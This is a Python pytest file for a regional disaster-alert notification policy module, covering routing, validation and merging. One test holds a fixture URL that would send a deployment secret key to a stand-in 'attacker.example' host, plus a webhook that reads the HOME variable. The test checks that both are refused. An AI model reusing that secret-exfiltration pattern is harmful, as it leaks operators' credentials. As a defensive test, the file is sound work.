"""Notification policy per regency: validated like the file, merged before it, never reaching
another regency's notices or the deployment's secrets."""

from __future__ import annotations

from typing import Any

import pytest

from alerts.notify.errors import PolicyError
from alerts.notify.policy import parse_policy
from alerts.notify.regency_policy import (
    PolicyInForce,
    StoredRegencyPolicy,
    effective_policy,
    parse_regency_policy,
    secret_prefix,
)
from alerts.pipeline.route import route

FILE = parse_policy(
    """
recipients:
  - {name: pusdalops, channels: [{name: mail, url: "mailto://ops@example.go.id"}]}
groups:
  - {name: national, members: [pusdalops]}
routes:
  - {match: {severity: [AWAS]}, groups: [national]}
default_groups: [national]
"""
)


def jember(**changes: Any) -> dict[str, Any]:
    document: dict[str, Any] = {
        "recipients": [
            {
                "name": "piket",
                "channels": [{"name": "tg", "url": "tgram://${SIAGA_REGENCY_JEMBER_TG}/-100123"}],
            },
            {"name": "kalak", "channels": [{"name": "sms", "url": "json://gw/?to=0812"}]},
        ],
        "groups": [
            {"name": "piket", "members": ["piket"], "escalation": "naik"},
            {"name": "pimpinan", "members": ["kalak"]},
        ],
        "routes": [{"match": {"severity": ["AWAS"]}, "groups": ["pimpinan"], "continue": True}],
        "default_groups": ["piket"],
        "escalations": {"naik": {"steps": [{"group": "pimpinan", "after_min": 15}]}},
    }
    document.update(changes)
    return document


def labels(regency: str, severity: str = "SIAGA") -> dict[str, str]:
    return {"regency": regency, "severity": severity, "kind": "level", "station": "x"}


def test_a_regency_hears_its_own_notices_and_the_file_keeps_the_others() -> None:
    policy = parse_regency_policy("Jember", jember(), FILE)
    merged = effective_policy(FILE, {"Jember": policy})
    assert route(labels("Jember", "AWAS"), merged.routes, merged.default_groups) == (
        "jember.pimpinan",
        "jember.piket",
    )
    assert route(labels("Jember"), merged.routes, merged.default_groups) == ("jember.piket",)
    # Another regency's notices, AWAS or not, take the file's routes as before.
    assert route(labels("Rembang", "AWAS"), merged.routes, merged.default_groups) == ("national",)
    assert route(labels("Rembang"), merged.routes, merged.default_groups) == ("national",)
    assert merged.group("jember.piket").members == ["jember.piket"]  # type: ignore[union-attr]
    assert merged.escalations["jember.naik"].steps[0].group == "jember.pimpinan"
    assert merged.recipient("pusdalops") is not None


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (jember(default_groups=["tim-sar"]), "default_groups: unknown groups ['tim-sar']"),
        (jember(routes=[{"match": {"regency": ["Rembang"]}, "groups": ["piket"]}]),
         "routes[0]: a regency's routes match its regency already"),
        (jember(routes=[{"match": {"desa": ["x"]}, "groups": ["piket"]}]), "unknown labels"),
        (jember(recipients=[{"name": "Piket!", "channels": []}]), "recipients.0.name"),
        (jember(groups=[{"name": "piket", "members": ["nobody"]}], escalations={},
                routes=[], default_groups=[]), "unknown members ['nobody']"),
        (jember(tz="WIB"), "tz: Extra inputs are not permitted"),
    ],
)  # fmt: skip
def test_a_broken_policy_is_refused_with_its_reason(document: dict[str, Any], reason: str) -> None:
    with pytest.raises(PolicyError, match="policy of Jember: ") as refused:
        parse_regency_policy("Jember", document, FILE)
    assert reason in str(refused.value)


def test_a_regency_names_only_its_own_secrets() -> None:
    assert secret_prefix("Kota Bogor") == "SIAGA_REGENCY_KOTA_BOGOR_"
    stolen = jember(
        recipients=[
            {
                "name": "piket",
                "channels": [
                    {"name": "x", "url": "json://attacker.example/${SIAGA_API__SECRET_KEY}"}
                ],
            },
            {"name": "kalak", "channels": [{"name": "sms", "url": "json://gw/?to=0812"}]},
        ]
    )
    named = r"named SIAGA_REGENCY_JEMBER_\.\.\., not .SIAGA_API__SECRET_KEY"
    with pytest.raises(PolicyError, match=named):
        parse_regency_policy("Jember", stolen, FILE)
    hook = jember(
        recipients=[
            {
                "name": "piket",
                "channels": [
                    {"name": "h", "type": "webhook", "url": "https://x", "secret_env": "HOME"}
                ],
            },
            {"name": "kalak", "channels": [{"name": "sms", "url": "json://gw/?to=0812"}]},
        ]
    )
    with pytest.raises(PolicyError, match="not 'HOME'"):
        parse_regency_policy("Jember", hook, FILE)


def test_a_name_the_file_holds_already_is_refused() -> None:
    taken = parse_policy(
        """
recipients:
  - {name: jember.piket, channels: [{name: m, url: "mailto://a@b.c"}]}
groups:
  - {name: g, members: [jember.piket]}
"""
    )
    with pytest.raises(PolicyError, match="recipient names repeat"):
        parse_regency_policy("Jember", jember(), taken)


def test_the_policy_in_force_is_merged_again_only_when_something_changed() -> None:
    in_force = PolicyInForce()
    assert in_force(FILE) is FILE
    stored = StoredRegencyPolicy("Jember", 1, parse_regency_policy("Jember", jember()), "a", 1)
    in_force.use({"Jember": stored})
    first = in_force(FILE)
    assert first.group("jember.piket") is not None
    assert in_force(FILE) is first
    in_force.use({"Jember": StoredRegencyPolicy("Jember", 2, stored.policy, "a", 2)})
    assert in_force(FILE) is not first
